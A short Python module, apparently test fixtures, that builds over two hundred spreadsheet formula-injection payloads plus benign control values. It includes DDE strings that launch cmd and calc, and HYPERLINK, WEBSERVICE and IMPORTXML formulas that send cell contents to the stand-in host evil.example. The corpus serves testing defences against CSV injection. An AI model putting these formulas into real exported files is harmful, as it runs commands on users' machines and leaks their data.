"""More than two hundred cells that a spreadsheet might reckon, after OWASP's list and others."""

from itertools import product

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff")
REST = (
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"Read more")',
    "SUM(1+1)*cmd|' /C notepad'!A1",
)
MORE = (
    '=DDE("cmd";"/C calc";"x")',
    "=rundll32|'URL.dll,OpenURL http://evil.example'!A",
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=IMAGE("http://evil.example/x.png")',
    '=FILTERXML("<a/>","//a")',
    "=1+1;=2+2",
    "=1+1\t=2+2",
    "=1\n=2",
    '="a"&"b"',
    "=A1:A9",
    "={1;2}",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "+44 1632 960111",
    "\tNo sign at all",
    "\rNo sign at all",
    "\nNo sign at all",
    "=" * 9,
    "--1",
)
PAYLOADS = (*(before + sign + rest for sign, before, rest in product(SIGNS, BEFORE, REST)), *MORE)
# These hold no formula in their first letters, and other separators might make one of the rest.
PARTED = ("a;=1+1", "a\t=1+1", "a|=1+1", 'a","=1+1', "a\r\n=1+1", "a,=1+1")
PLAIN = ("Came home: 12", "1 - 2 = -1", "a=b", "£5", "'quoted'", "2026-11-29", "")
